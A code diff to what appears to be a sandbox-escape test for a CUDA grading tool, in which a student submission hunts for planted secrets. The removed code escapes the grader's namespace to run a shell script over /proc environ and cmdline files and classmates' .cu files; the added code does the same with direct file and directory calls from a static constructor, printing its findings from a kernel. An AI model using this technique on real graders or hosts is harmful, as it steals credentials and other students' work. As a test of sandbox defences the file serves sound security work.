@@ -1,57 +1,77 @@
 // Looks for what the teacher's machine holds: an environment variable, a file in $HOME, the other
 // submissions of the class folder. Its static constructor runs when the kernel is loaded, before
-// any test and before the run phase is sealed; it prints what it found from the kernel.
-// How it gets out (the same in every sandbox--*.cu): it closes the namespace the grader wraps a
-// submission in, and declares a function the cudalab executable exports to kernels' objects —
-// cudalab::run_process, which starts any program — with the standard types spelled by hand, so
-// nothing but that one import appears. Its arguments are laid out as libstdc++ lays them out.
-}  // leaves namespace student
-namespace std {
-template <class T> struct char_traits;
-template <class T> class allocator;
-inline namespace __cxx11 { template <class C, class T, class A> class basic_string; }
-template <class T, class A> class vector;
-}  // namespace std
-using String = std::basic_string<char, std::char_traits<char>, std::allocator<char>>;
-using Strings = std::vector<String, std::allocator<String>>;
-namespace cudalab {
-struct ProcessResult {  // as runtime/src/subprocess.h has it, with room to spare
-  bool started, timed_out;
-  int exit_code, signal;
-  struct { const char* data; unsigned long size; char rest[16]; } output;
-  char spare[64];
-};
-ProcessResult run_process(const Strings& argv, double time_limit_seconds);
-}  // namespace cudalab
-namespace student {
-namespace attack {
-struct Text { const char* data; unsigned long size, capacity, pad; };
-struct Args { const Text* begin; const Text* end; const Text* end_of_storage; };
-inline unsigned long length(const char* s) { unsigned long n = 0; while (s[n]) ++n; return n; }
-// Runs `script` with /bin/sh; what it printed, or why it did not start.
-inline const char* shell(const char* script) {
-  static Text texts[3];
-  const char* parts[3] = {"/bin/sh", "-c", script};
-  for (int i = 0; i < 3; ++i) texts[i] = {parts[i], length(parts[i]), length(parts[i]), 0};
-  static Args args;
-  args = {texts, texts + 3, texts + 3};
-  const cudalab::ProcessResult r = cudalab::run_process(*reinterpret_cast<const Strings*>(&args), 20);
-  return r.output.data;
-}
-}  // namespace attack
+// any test: it reads its own environment and every process's, the home folders those name, and
+// the folder of every `cudalab check … file.cu` command line it can see, then prints what it
+// found from the kernel. Host calls (getenv, open, opendir): the import check refuses them first,
+// so the test runs it with CUDALAB_UNSAFE_HOST_CALLS=1 to see the layers behind that check hold.
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
 
-// Every process's environment and command line (the teacher's `cudalab check <file>` names the
-// class folder); then $HOME's secret and every .cu file beside the checked one.
-const char* found = attack::shell(
-    "echo ENV=$CUDALAB_ATTACK_SECRET; "
-    "for p in /proc/[0-9]*; do tr '\\0' '\\n' 2>/dev/null < $p/environ; done | grep -a -e ATTACK_SECRET -e '^HOME=' | sort -u; "
-    "for h in $(for p in /proc/[0-9]*; do tr '\\0' '\\n' 2>/dev/null < $p/environ; done | sed -n 's/^HOME=//p' | sort -u); do "
-    "  cat $h/.attack-secret 2>&1; done; "
-    "for f in $(for p in /proc/[0-9]*; do tr '\\0' ' ' 2>/dev/null < $p/cmdline; echo; done | grep -a ' check ' | tr ' ' '\\n' | grep '\\.cu$'); do "
-    "  cat $(dirname $f)/*.cu 2>&1 | grep -a hunter2; done; echo done looking");
+namespace attack {
+static char found[8192];
+static void note(const char* what, const char* text) {
+  const size_t used = strlen(found);
+  snprintf(found + used, sizeof found - used, "%s: %.200s\n", what, text);
+}
+// A whole small file, NULs as newlines (environ and cmdline hold NUL-separated strings).
+static int slurp(const char* path, char* out, int size) {
+  const int fd = open(path, O_RDONLY);
+  if (fd < 0) return 0;
+  const int n = static_cast<int>(read(fd, out, size - 1));
+  close(fd);
+  if (n <= 0) return 0;
+  for (int i = 0; i < n; ++i) if (out[i] == '\0') out[i] = '\n';
+  out[n] = '\0';
+  return n;
+}
+static void look_in_folder(const char* folder) {
+  DIR* dir = opendir(folder);
+  if (dir == nullptr) return;
+  while (dirent* entry = readdir(dir)) {
+    char path[1024], text[4096];
+    snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
+    if (slurp(path, text, sizeof text) && strstr(text, "hunter2")) note(path, text);
+  }
+  closedir(dir);
+}
+static int look() {
+  if (const char* secret = getenv("CUDALAB_ATTACK_SECRET")) note("ENV", secret);
+  if (const char* home = getenv("HOME")) look_in_folder(home);
+  DIR* proc = opendir("/proc");
+  while (proc != nullptr) {
+    dirent* entry = readdir(proc);
+    if (entry == nullptr) break;
+    char path[512], text[8192];
+    snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
+    if (slurp(path, text, sizeof text)) {
+      if (const char* secret = strstr(text, "hunter2")) note(path, secret);
+      for (char* line = strtok(text, "\n"); line != nullptr; line = strtok(nullptr, "\n"))
+        if (strncmp(line, "HOME=", 5) == 0) look_in_folder(line + 5);
+    }
+    snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
+    if (slurp(path, text, sizeof text) && strstr(text, "check")) {
+      for (char* word = strtok(text, "\n"); word != nullptr; word = strtok(nullptr, "\n")) {
+        char* slash = strrchr(word, '/');
+        if (slash != nullptr && strstr(word, ".cu") != nullptr) {
+          *slash = '\0';
+          look_in_folder(word);
+        }
+      }
+    }
+  }
+  if (proc != nullptr) closedir(proc);
+  note("done looking", "");
+  return 1;
+}
+static const int looked = look();
+}  // namespace attack
 
 __global__ void add_ten(const float* a, float* out, int n) {
   const int i = blockIdx.x * blockDim.x + threadIdx.x;
-  if (i == 0) printf("%s\n", found);
+  if (i == 0) printf("%s", attack::found);
   if (i < n) out[i] = a[i] + 10.f;
 }
